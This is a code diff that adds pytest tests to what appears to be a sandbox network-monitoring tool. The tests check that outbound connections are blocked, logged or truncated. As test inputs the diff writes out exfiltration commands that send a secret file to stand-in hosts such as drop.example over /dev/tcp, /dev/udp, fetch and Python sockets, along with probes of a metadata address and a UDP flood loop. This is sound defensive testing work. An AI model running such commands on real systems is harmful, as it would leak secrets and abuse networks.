@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import random
+import socket
 import time
 from typing import Any
 
@@ -20,7 +21,7 @@ from auditkit.behaviour.sandbox.services import (
     Service,
     Sink,
 )
-from auditkit.behaviour.sandbox.stage import File, OutsideHost, Record, StageSpec
+from auditkit.behaviour.sandbox.stage import File, Limits, OutsideHost, Record, StageSpec
 from auditkit.errors import SandboxError
 
 SECRET = random.Random(1).randbytes(600)
@@ -33,9 +34,9 @@ VIA = "fetch --proxy http://proxy.internal:3128"
 T = "$(base64 -w0 /srv/secret)"
 
 
-def stage(*services: Service) -> Box:
+def stage(*services: Service, **more: Any) -> Box:
     files = {"/srv/secret": File(content=SECRET)}
-    return Box(StageSpec(outside=OUTSIDE, services=services, files=files))
+    return Box(StageSpec(outside=OUTSIDE, services=services, files=files, **more))
 
 
 def proxy(**more: Any) -> Proxy:
@@ -122,6 +123,136 @@ def test_unusual_ports_take_what_they_are_sent_or_block_it(way: str) -> None:
         assert (stopped["channel"], stopped["host"]) == (kind, "mirror.example")
         assert stopped["port"] == int(port)
         assert share(box) == share(box, "blocked") == 1.0
+
+
+@pytest.mark.parametrize(
+    "place",
+    ["drop.example/4444", "mirror.example/81", "8.8.8.8/443", "169.254.169.254/80", "10.0.0.9/22"],
+)
+def test_a_call_to_where_nobody_is_is_refused_and_recorded_once_a_command(place: str) -> None:
+    host, port = place.split("/")
+    call = f"for i in 1 2 3; do (exec 3<>/dev/tcp/{place}); done 2>&1"
+    with stage(Sink()) as box:
+        for n in (1, 2):
+            assert box.shell(call).stdout.count(b"refused") == 6  # bash says it twice
+            inside = host.startswith(("10.", "169."))
+            found = box.details("closed" if inside else "blocked")
+            assert [(d["channel"], d["host"], d["port"]) for d in found] == [
+                ("tcp", host, int(port))
+            ] * n
+        assert not box.records("transfer")
+
+
+IPV6 = "import socket; socket.create_connection(('2001:db8::5', 80), 2)"
+
+
+def test_addresses_of_ipv6_are_seen_as_well() -> None:
+    if not socket.has_ipv6:
+        pytest.skip("no IPv6")
+    with stage(Sink()) as box:
+        assert b"refused" in box.exec("python3", "-c", IPV6).stderr
+        (found,) = box.details("blocked")
+        assert (found["host"], found["port"]) == ("2001:db8::5", 80)
+
+
+def test_datagrams_to_any_port_are_read_and_leave_where_the_network_is_open() -> None:
+    with stage(Sink()) as box:
+        for host in ("drop.example", "mirror.example", "8.8.8.8"):
+            box.shell(f"cat /srv/secret >/dev/udp/{host}/40000")
+        (left,) = box.details("transfer")
+        assert (left["host"], left["port"]) == ("drop.example", 40000)
+        assert [d["host"] for d in box.details("blocked")] == ["mirror.example", "8.8.8.8"]
+        assert share(box) == share(box, "blocked") == 1.0
+    with stage() as box:  # without a sink nobody takes anything
+        box.shell("cat /srv/secret >/dev/udp/drop.example/40000")
+        assert not box.records("transfer")
+
+
+def test_a_monitor_stops_datagrams_too() -> None:
+    with stage(Sink(), Monitor(max_body_bytes=100)) as box:
+        box.shell("cat /srv/secret >/dev/udp/drop.example/40000")
+        assert not box.records("transfer")
+        assert share(box, "alarm") == 1.0
+
+
+def test_names_are_asked_for_in_vain_without_a_resolver_and_recorded() -> None:
+    with stage(Sink(), proxy()) as box:
+        assert not box.shell("lookup 6162.zone.example").ok
+        assert not box.shell("getent hosts nobody.example").ok
+        assert box.shell("getent hosts drop.example").ok
+        asked = {(d["name"], d["outside"]) for d in box.details("lookup")}
+        assert asked >= {("6162.zone.example", False), ("nobody.example", False)}
+
+
+def test_what_a_service_or_the_machine_itself_hears_is_no_dead_end() -> None:
+    with stage(Sink(), proxy(), Resolver(zones=("z.example",))) as box:
+        box.shell("fetch http://drop.example/; lookup a.z.example; echo x >/dev/udp/127.0.0.1/4000")
+        box.shell(f"{VIA} http://mirror.example/; (exec 3<>/dev/tcp/127.0.0.1/4000)")
+        assert not [r for r in box.records() if r.kind in ("blocked", "closed", "packets_lost")]
+
+
+def test_more_calls_than_fit_are_told() -> None:
+    flood = (
+        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "for i in range(20000): s.sendto(b'x' * 60000, ('8.8.8.8', 9))"
+    )
+    with stage(limits=Limits(body_bytes=10)) as box:
+        box.exec("python3", "-c", flood)
+        lost = sum(d["n"] for d in box.details("packets_lost"))
+        assert lost > 0
+        assert lost + len(box.records("blocked")) == 20000
+
+
+def test_a_connection_in_which_nothing_is_said_is_recorded() -> None:
+    with stage(Sink()) as box:
+        for port in (22, 80, 9000):
+            box.shell(f"exec 3<>/dev/tcp/drop.example/{port}; exec 3>&-; sleep 0.2")
+        found = box.details("blocked")
+        assert [(d["port"], d["size_bytes"]) for d in found] == [(22, 0), (80, 0), (9000, 0)]
+
+
+def test_what_is_sent_before_a_connection_breaks_has_arrived() -> None:
+    cut = (
+        "import socket, struct, time\ns = socket.create_connection(('drop.example', 9000))\n"
+        "s.sendall(open('/srv/secret', 'rb').read())\ntime.sleep(0.1)\n"
+        "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close()"
+    )
+    with stage(Sink()) as box:
+        assert box.exec("python3", "-c", cut).ok
+        assert box.wait(box.sandbox.settle())
+        assert share(box) == 1.0
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ("fetch -T /srv/secret http://drop.example/", "transfer"),
+        ("cat /srv/secret >/dev/tcp/drop.example/9000; sleep 0.7", "transfer"),
+        ("cat /srv/secret >/dev/tcp/mirror.example/80; sleep 0.7", "blocked"),
+        ("cat /srv/secret >/dev/udp/mirror.example/4000", "blocked"),
+        (f"{VIA} -T /srv/secret http://drop.example/", "proxy"),
+        ("fetch -T /srv/secret -X POST http://support.internal/messages", "mailbox"),
+    ],
+)
+def test_what_is_longer_than_is_kept_says_so(command: str, kind: str) -> None:
+    mailbox = Mailbox(name="support.internal", address="10.0.0.4", max_bytes=20)
+    limits = Limits(body_bytes=100)
+    with stage(Sink(), proxy(), mailbox, limits=limits) as box:
+        box.shell(command)
+        (found,) = box.details(kind)
+        assert found["cut_bytes"] == len(SECRET) - 100
+        assert base64.b64decode(found["body"]) == SECRET[:100]
+    with stage(Sink(), proxy(), mailbox, limits=Limits(body_bytes=len(SECRET))) as box:
+        box.shell(command)
+        assert "cut_bytes" not in box.details(kind)[0]
+
+
+def test_what_comes_behind_a_refused_request_is_kept() -> None:
+    head = "POST http://mirror.example/ HTTP/1.1\\r\\nContent-Length: 2\\r\\n\\r\\nok"
+    with stage(proxy()) as box:
+        box.shell(f'printf "{head}{T}" >/dev/tcp/proxy.internal/3128; sleep 0.5')
+        assert share(box, "proxy") == 1.0
+        assert len(box.records("transfer")) == 1
 
 
 def test_what_an_outside_host_is_sent_past_the_proxy_is_recorded() -> None:
